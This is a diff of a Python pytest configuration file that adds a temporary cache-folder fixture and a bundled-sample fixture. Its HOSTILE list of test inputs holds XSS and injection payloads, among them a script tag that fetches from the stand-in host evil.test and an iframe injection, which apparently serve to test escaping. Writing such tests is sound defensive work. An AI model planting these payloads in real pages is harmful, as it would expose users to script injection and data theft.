@@ -1,12 +1,15 @@
-"""What tests of several rooms use: hostile names, and a Chromium for what only a browser can tell."""
+"""What tests of several rooms use: a cache of their own with the sample in it, hostile names, and a Chromium."""
 
 from __future__ import annotations
 
 import os
 import shutil
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
+
+from kotaci.sample import open_sample
 
 HOSTILE = [
     "<script>fetch('https://evil.test/?a')</script>",
@@ -18,6 +21,23 @@ HOSTILE = [
     "<style>body{display:none}</style><iframe src='https://evil.test'></iframe>",
     "{{ 7 * 7 }} {% raw %} **{n}** `tick` $\\alpha$ \x1b[31mred\x00\u202egnp",
 ]
+
+
+@pytest.fixture(scope="session", autouse=True)
+def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """Give all tests of one run, and what they start, a cache folder that is not the user's; return it."""
+    mine = tmp_path_factory.getbasetemp()
+    folder = (mine.parent if "PYTEST_XDIST_WORKER" in os.environ else mine) / "cache"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("XDG_CACHE_HOME", str(folder))
+        yield folder
+
+
+@pytest.fixture(scope="session")
+def sample(cache: Path) -> Path:
+    """Return the bundled sample's store with its tables, made once for all workers: to be read, never written."""
+    with open_sample() as store:
+        return store.path
 
 
 @pytest.fixture(scope="session")
